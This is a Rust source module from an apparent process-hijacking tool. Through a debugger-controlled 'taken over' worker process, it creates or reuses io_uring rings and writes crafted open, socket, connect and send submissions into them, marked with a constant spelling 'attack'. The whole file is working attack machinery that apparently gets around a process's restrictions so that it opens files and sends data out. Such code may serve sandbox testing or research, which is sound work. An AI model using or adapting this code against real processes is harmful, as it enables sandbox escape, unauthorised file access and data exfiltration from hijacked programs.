//! Rings of a taken process: the restricted ones that it has, and new ones.

use std::fs;

use nix::errno::Errno;

use crate::taken_over::{Answer, Failure, TakenOver, number};

/// Operations, by their numbers in linux/io_uring.h.
const CONNECT: u8 = 16;
const OPENAT: u8 = 18;
const SEND: u8 = 26;
const SOCKET: u8 = 45;

/// Rings in memory that the process gives (Linux 6.5): a debugger can read and write that.
const IN_OWN_MEMORY: u32 = 1 << 14;

/// The call waits for a completion.
const GETEVENTS: u64 = 1;

/// Entries of a new ring: it fits into a page.
const ENTRIES: u64 = 8;

/// Bytes of an entry of each queue.
const SUBMISSION_LEN: u64 = 64;
const COMPLETION_LEN: u64 = 16;

/// Marks the entry of an attack among those of the worker.
const MARK: u64 = 0x6174_7461_636b;

/// What a mapping of a ring has: its queues, or its submissions.
const QUEUES_OFFSET: &str = "00000000";
const SUBMISSIONS_OFFSET: &str = "10000000";

/// Offsets in the memory of the queues, which are the same for all rings of a kernel, but for
/// entries.
#[derive(Clone, Copy, Debug)]
struct Offsets {
    tail: u64,
    mask: u64,
    array: u64,
    completed_head: u64,
    completed_tail: u64,
    completed_mask: u64,
    completions: u64,
}

/// A ring, with the addresses of its memory.
#[derive(Debug)]
pub(crate) struct Ring {
    descriptor: u64,
    queues: u64,
    submissions: u64,
    offsets: Offsets,
    is_new: bool,
}

/// An operation, as a submission has it.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Operation {
    code: u8,
    descriptor: i32,
    offset: u64,
    address: u64,
    length: u32,
    flags: u32,
}

impl Operation {
    const NOTHING: Self =
        Self { code: 0, descriptor: 0, offset: 0, address: 0, length: 0, flags: 0 };

    pub(crate) fn open(path: u64, flags: i32) -> Self {
        let flags = flags.cast_unsigned();
        Self { code: OPENAT, descriptor: libc::AT_FDCWD, address: path, flags, ..Self::NOTHING }
    }

    pub(crate) const fn socket(family: i32, kind: i32, protocol: u32) -> Self {
        let offset = number(kind);
        Self { code: SOCKET, descriptor: family, offset, length: protocol, ..Self::NOTHING }
    }

    pub(crate) fn connect(socket: u64, address: u64, length: u64) -> Self {
        let descriptor = descriptor(socket);
        Self { code: CONNECT, descriptor, offset: length, address, ..Self::NOTHING }
    }

    pub(crate) fn send(socket: u64, address: u64, length: u32) -> Self {
        Self { code: SEND, descriptor: descriptor(socket), address, length, ..Self::NOTHING }
    }

    fn encode(self) -> [u8; 64] {
        let mut bytes = [0; 64];
        bytes[0] = self.code;
        bytes[4..8].copy_from_slice(&self.descriptor.to_le_bytes());
        bytes[8..16].copy_from_slice(&self.offset.to_le_bytes());
        bytes[16..24].copy_from_slice(&self.address.to_le_bytes());
        bytes[24..28].copy_from_slice(&self.length.to_le_bytes());
        bytes[28..32].copy_from_slice(&self.flags.to_le_bytes());
        bytes[32..40].copy_from_slice(&MARK.to_le_bytes());
        bytes
    }
}

fn descriptor(number: u64) -> i32 {
    i32::try_from(number).expect("descriptors are small")
}

impl Ring {
    /// Has the process make a ring without restrictions.
    pub(crate) fn new(worker: &mut TakenOver) -> Result<Self, Failure> {
        let (queues, submissions) = (worker.reserve_page(), worker.reserve_page());
        // `io_uring_params`: numbers, then the offsets of submissions and of completions, each with
        // an address at its end.
        let mut parameters = [0; 120];
        parameters[8..12].copy_from_slice(&IN_OWN_MEMORY.to_le_bytes());
        parameters[72..80].copy_from_slice(&submissions.to_le_bytes());
        parameters[112..120].copy_from_slice(&queues.to_le_bytes());
        let address = worker.put(&parameters);
        let made = worker.call(libc::SYS_io_uring_setup, &[ENTRIES, address]);
        let descriptor = made.map_err(|failure| match failure {
            Failure::Refused(Errno::EINVAL) => Failure::Absent("rings in own memory (Linux 6.5)"),
            Failure::Refused(Errno::EPERM | Errno::ENOSYS) => Failure::Absent("io_uring"),
            failure => failure,
        })?;
        let offset = |place: u64| u64::from(worker.read_u32(address + place));
        let offsets = Offsets {
            tail: offset(44),
            mask: offset(48),
            array: offset(64),
            completed_head: offset(80),
            completed_tail: offset(84),
            completed_mask: offset(88),
            completions: offset(100),
        };
        Ok(Self { descriptor, queues, submissions, offsets, is_new: true })
    }

    /// A ring that the worker has. `new` tells the kernel's offsets.
    pub(crate) fn of_worker(worker: &TakenOver, new: &Self) -> Result<Self, Failure> {
        let descriptors = worker.descriptors();
        let mut rings = descriptors.iter().filter(|(_, target)| target.ends_with("[io_uring]"));
        let ring = rings.find(|(number, _)| *number != new.descriptor);
        let (descriptor, _) = ring.ok_or(Failure::Absent("a ring of the worker"))?;
        let maps = fs::read_to_string(format!("/proc/{}/maps", worker.pid())).expect("it lives");
        let mapped = |offset: &str| {
            let is_it = |line: &&str| {
                line.ends_with("[io_uring]") && line.split(' ').nth(2) == Some(offset)
            };
            let line = maps.lines().find(is_it).expect("it is mapped");
            let (start, _) = line.split_once('-').expect("a range");
            u64::from_str_radix(start, 16).expect("an address")
        };
        let (queues, submissions) = (mapped(QUEUES_OFFSET), mapped(SUBMISSIONS_OFFSET));
        let (descriptor, offsets) = (*descriptor, new.offsets);
        Ok(Self { descriptor, queues, submissions, offsets, is_new: false })
    }

    /// Has the kernel carry out an operation, and returns its result.
    pub(crate) fn submit(&self, worker: &mut TakenOver, operation: Operation) -> Answer {
        let at = |offset: u64| self.queues + offset;
        let Offsets { tail, mask, array, .. } = self.offsets;
        let next = worker.read_u32(at(tail));
        let place = u64::from(next & worker.read_u32(at(mask)));
        worker.write(self.submissions + place * SUBMISSION_LEN, &operation.encode());
        if self.is_new {
            // The library that makes the worker's rings has written this for all entries.
            let index = u32::try_from(place).expect("they are few");
            worker.write(at(array) + place * 4, &index.to_le_bytes());
        }
        worker.write(at(tail), &(next + 1).to_le_bytes());
        let arguments = [self.descriptor, 1, 1, GETEVENTS, 0, 0];
        worker.call(libc::SYS_io_uring_enter, &arguments)?;
        let result = self.take_result(worker).expect("it was waited for");
        match u64::try_from(result) {
            Ok(value) => Ok(value),
            Err(_) => Err(Failure::Refused(Errno::from_raw(-result))),
        }
    }

    /// Takes the result of the attack, and those of the worker before it.
    fn take_result(&self, worker: &TakenOver) -> Option<i32> {
        let Offsets { completed_head, completed_tail, completed_mask, completions, .. } =
            self.offsets;
        let read = |offset: u64| worker.read_u32(self.queues + offset);
        let (mut head, tail, mask) =
            (read(completed_head), read(completed_tail), read(completed_mask));
        let mut result = None;
        while head != tail {
            let place = completions + u64::from(head & mask) * COMPLETION_LEN;
            if u64::from_le_bytes(worker.read(self.queues + place)) == MARK {
                result = Some(read(place + 8).cast_signed());
            }
            head = head.wrapping_add(1);
        }
        worker.write(self.queues + completed_head, &head.to_le_bytes());
        result
    }
}
